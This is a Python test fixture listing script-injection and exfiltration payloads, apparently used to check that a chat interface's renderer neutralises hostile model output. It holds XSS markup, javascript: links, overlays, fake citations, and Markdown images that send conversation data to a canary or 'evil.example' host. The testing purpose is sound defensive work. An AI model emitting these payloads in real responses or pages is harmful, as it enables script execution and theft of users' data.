"""Script-injection and exfiltration payloads (RELIABILITY.md E1-E6); `{canary}` is the canary origin.

Used as model output (a scripted chat model) and as corpus text (entries and sources built in
tmp, bypassing the corpus lint that would reject them).
"""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    # E1: markup and event handlers, case and entity variants
    "<script>alert(1)</script>",
    "<SCRIPT SRC={canary}/x.js></SCRIPT>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<img src=x onerror=alert(3)>",
    '<IMG SRC="x" ONERROR="alert(4)">',
    "<img src={canary}/img.png>",
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    '<iframe srcdoc="<script>alert(7)</script>"></iframe>',
    '<iframe src="{canary}/frame"></iframe>',
    "<details open ontoggle=alert(8)>x</details>",
    "<style>body{{background:url({canary}/css)}}</style>",
    "<link rel=stylesheet href={canary}/l.css>",
    '<base href="{canary}/">',
    '<meta http-equiv="refresh" content="0;url={canary}/meta">',
    "&lt;script&gt;alert(9)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(10)&#62;",
    "<body onload=alert(11)>",
    "<input autofocus onfocus=alert(12)>",
    "<video><source onerror=alert(13)></video>",
    "<audio src=x onerror=alert(14)>",
    '<object data="{canary}/obj"></object>',
    '<embed src="{canary}/embed">',
    '<a href="javascript:alert(15)">click</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(16)>",
    '"><img src=x onerror=alert(17)>',
    "${{alert(18)}} {{{{constructor.constructor('alert(19)')()}}}}",
    '<form action="{canary}/form"><button>go</button></form>',
    '<div style="background-image:url({canary}/bg)">bg</div>',
    "<!--<img src=x onerror=alert(20)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(21)>">',
    "<x onclick=alert(22)>click me</x>",
    "\u202eevil\u202c <img src=x onerror=alert(23)>",
    "<template><img src=x onerror=alert(24)></template>",
    "<select><style></select><img src=x onerror=alert(25)></style>",
    '<a href="{canary}/a" ping="{canary}/ping">p</a>',
    '<img srcset="{canary}/srcset 1x">',
    # E2: Markdown images, reference-style images, autolinks (exfiltration)
    "![x]({canary}/md.png)",
    "![a][r]\n\n[r]: {canary}/ref.png",
    "<{canary}/autolink>",
    "{canary}/bare?q=secret",
    "www.example.com/exfil",
    "![x]({canary}/x?q={{conversation}})",
    "[![img]({canary}/nested.png)]({canary}/)",
    "![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    # E3: dangerous link schemes
    "[x](javascript:alert(26))",
    "[x](JaVaScRiPt:alert(27))",
    "[x](&#106;avascript:alert(28))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x]( javascript:alert(29))",
    '<a href="jav&#x09;ascript:alert(30)">t</a>',
    "[x]({canary}/link)",
    # E4: overlays
    '<p style="position:fixed;inset:0;background:red">overlay</p>',
    '<div style="position: FIXED; top:0; left:0; width:100%; height:100%">overlay 2</div>',
    '<dialog open style="position:fixed">d</dialog>',
    # E5: fake citation markers and invented sources
    "See [9] and [12] and [0] for details.",
    "Source: https://evil.example/paper [1]",
    "[1]({canary}/fake-cite)",
    "[9]: {canary}/ref-def",
)


def payloads(canary: str) -> list[str]:
    return [p.format(canary=canary) for p in PAYLOADS]
